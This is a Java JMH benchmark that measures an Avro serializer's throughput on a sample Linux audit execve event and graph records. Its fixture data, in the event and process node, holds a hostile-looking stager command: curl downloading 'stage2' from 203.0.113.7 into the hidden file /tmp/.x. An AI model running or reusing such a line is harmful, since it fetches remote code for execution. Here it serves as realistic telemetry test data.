package dev.whence.bench;

import dev.whence.avro.Edge;
import dev.whence.avro.Event;
import dev.whence.avro.EventObject;
import dev.whence.avro.Node;
import dev.whence.avro.NodeKind;
import dev.whence.avro.ObjectKind;
import dev.whence.avro.Operation;
import dev.whence.avro.SourceKind;
import dev.whence.avro.Subject;
import dev.whence.schemas.AvroSerde;
import dev.whence.schemas.EventIds;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.apache.avro.message.BinaryMessageDecoder;
import org.apache.avro.message.BinaryMessageEncoder;
import org.apache.avro.specific.SpecificData;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;

/**
 * Throughput of {@link AvroSerde} on one realistic {@link Event}: an execve by curl with five
 * arguments, exe and cwd, the executable and the loader as file objects, and a dozen raw fields.
 *
 * <p>The baseline benchmarks run Avro's own {@code BinaryMessageEncoder}/{@code
 * BinaryMessageDecoder} (what the serde first used) on the same event, for comparison in the same
 * run.
 *
 * <p>Run: {@code java -jar tests/target/whence-benchmarks.jar SerdeBenchmark -f 1 -wi 3 -i 5 -w 2s
 * -r 3s -t 1}. Targets on one thread: 1.5 M encodes/s and 2 M decodes/s.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class SerdeBenchmark {

  private AvroSerde<Event> serde;
  private AvroSerde<Event> withoutRaw;
  private BinaryMessageEncoder<Event> baselineEncoder;
  private BinaryMessageDecoder<Event> baselineDecoder;
  private Event event;
  private byte[] encoded;
  private AvroSerde<Edge> edgeSerde;
  private Edge edge;
  private byte[] encodedEdge;
  private AvroSerde<Node> nodeSerde;
  private Node node;
  private byte[] encodedNode;

  /** Builds the serde, the event and its encoding. */
  @Setup
  public void setUp() {
    serde = new AvroSerde<>(Event.class);
    withoutRaw = AvroSerde.eventsWithoutRaw();
    var model = SpecificData.getForClass(Event.class);
    baselineEncoder = new BinaryMessageEncoder<>(model, Event.getClassSchema());
    baselineDecoder = new BinaryMessageDecoder<>(model, Event.getClassSchema());
    event = realisticEvent();
    encoded = serde.encode(event);
    if (!serde.decode(encoded).equals(event)) {
      throw new IllegalStateException("the benchmark event does not round-trip");
    }
    edgeSerde = new AvroSerde<>(Edge.class);
    edge = plainEdge();
    encodedEdge = edgeSerde.encode(edge);
    nodeSerde = new AvroSerde<>(Node.class);
    node = processNode();
    encodedNode = nodeSerde.encode(node);
  }

  /** Encodes the event to single-object bytes. */
  @Benchmark
  public byte[] encode() {
    return serde.encode(event);
  }

  /** Decodes the event's single-object bytes. */
  @Benchmark
  public Event decode() {
    return serde.decode(encoded);
  }

  /** Decodes the event as the topology does: its raw map checked and skipped. */
  @Benchmark
  public Event decodeWithoutRaw() {
    return withoutRaw.decode(encoded);
  }

  /** Baseline: Avro's own single-object encoder (ByteBuffer result copied to an array). */
  @Benchmark
  public byte[] baselineEncode() throws IOException {
    ByteBuffer buffer = baselineEncoder.encode(event);
    byte[] bytes = new byte[buffer.remaining()];
    buffer.get(bytes);
    return bytes;
  }

  /** Baseline: Avro's own single-object decoder. */
  @Benchmark
  public Event baselineDecode() throws IOException {
    return baselineDecoder.decode(encoded);
  }

  /** Calibration: encodes a small, flat record (an edge: 9 scalar fields, an empty map). */
  @Benchmark
  public byte[] encodeSmallEdge() {
    return edgeSerde.encode(edge);
  }

  /** Calibration: decodes the small, flat record. */
  @Benchmark
  public Edge decodeSmallEdge() {
    return edgeSerde.decode(encodedEdge);
  }

  /** Encodes a process node with its attributes, as the topology emits one per new process. */
  @Benchmark
  public byte[] encodeProcessNode() {
    return nodeSerde.encode(node);
  }

  /** Decodes the process node. */
  @Benchmark
  public Node decodeProcessNode() {
    return nodeSerde.decode(encodedNode);
  }

  private static Node processNode() {
    return Node.newBuilder()
        .setId("5c2d8e1f-7a3b-5d4c-9e8f-0a1b2c3d4e5f")
        .setEntityId("1e2f3a4b-5c6d-5e7f-8a9b-0c1d2e3f4a5b")
        .setKind(NodeKind.PROCESS)
        .setHost("web-01")
        .setName("/usr/bin/curl")
        .setFirstSeenNanos(1_764_236_400_123_456_789L)
        .setLastSeenNanos(1_764_236_400_223_456_789L)
        .setAttributes(
            Map.of(
                "pid", "4242",
                "ppid", "4200",
                "uid", "1000",
                "argv", "curl -sSL -o /tmp/.x http://203.0.113.7/stage2",
                "cwd", "/home/alice/projects"))
        .build();
  }

  private static Edge plainEdge() {
    return Edge.newBuilder()
        .setId("0b6f0b1e-5d44-5b8e-9a7c-3e2f1d0c9b8a")
        .setEventId("3f1c2b9e-8d7a-5c4b-a3e2-1f0d9c8b7a6e")
        .setHost("web-01")
        .setOperation(Operation.READ)
        .setSourceNode("7d4e2a10-1c3b-5f6e-8a9d-0b1c2d3e4f50")
        .setTargetNode("9a8b7c6d-5e4f-5a3b-8c2d-1e0f9a8b7c6d")
        .setTimestampNanos(1_764_236_400_123_456_789L)
        .setSequence(81_235L)
        .build();
  }

  /** The event the benchmark encodes and decodes. */
  static Event realisticEvent() {
    var subject =
        Subject.newBuilder()
            .setPid(4242)
            .setPpid(4200)
            .setUid(1000L)
            .setEuid(1000L)
            .setSuid(1000L)
            .setFsuid(1000L)
            .setGid(1000L)
            .setEgid(1000L)
            .setSgid(1000L)
            .setFsgid(1000L)
            .setAuid(1000L)
            .setSessionId(3L)
            .setComm("curl")
            .setExe("/usr/bin/curl")
            .setArgv(List.of("curl", "-sSL", "-o", "/tmp/.x", "http://203.0.113.7/stage2"))
            .setCwd("/home/alice/projects")
            .setTty("pts0")
            .build();
    return Event.newBuilder()
        .setId(EventIds.of("web-01", "b7c1e0d2-0f43-4a8e-9d0c-2d1f3e4a5b6c", 81_234L))
        .setHost("web-01")
        .setBoot("b7c1e0d2-0f43-4a8e-9d0c-2d1f3e4a5b6c")
        .setSource(SourceKind.LINUX_AUDIT)
        .setSequence(81_234L)
        .setTimestampNanos(1_764_236_400_123_456_789L)
        .setOperation(Operation.EXECUTE)
        .setAction("execve")
        .setSuccess(true)
        .setReturnValue(0L)
        .setSubject(subject)
        .setObject1(file("/usr/bin/curl", 1_573_219L))
        .setObject2(file("/lib64/ld-linux-x86-64.so.2", 1_311_871L))
        .setRaw(
            Map.ofEntries(
                Map.entry("SYSCALL.arch", "c000003e"),
                Map.entry("SYSCALL.syscall", "59"),
                Map.entry("SYSCALL.a0", "55d0c1a2b3c0"),
                Map.entry("SYSCALL.a1", "55d0c1a2b400"),
                Map.entry("SYSCALL.a2", "55d0c1a2b480"),
                Map.entry("SYSCALL.a3", "0"),
                Map.entry("SYSCALL.items", "2"),
                Map.entry("SYSCALL.key", "exec"),
                Map.entry("EXECVE.argc", "5"),
                Map.entry("PATH.0.cap_fp", "0"),
                Map.entry("PATH.0.cap_fi", "0"),
                Map.entry("PROCTITLE.proctitle", "6375726C002D73534C002D6F")))
        .build();
  }

  private static EventObject file(String path, long inode) {
    return EventObject.newBuilder()
        .setKind(ObjectKind.FILE)
        .setPath(path)
        .setInode(inode)
        .setDevice("08:01")
        .setMode(0100755)
        .setOwnerUid(0L)
        .setOwnerGid(0L)
        .setNameType("NORMAL")
        .build();
  }
}
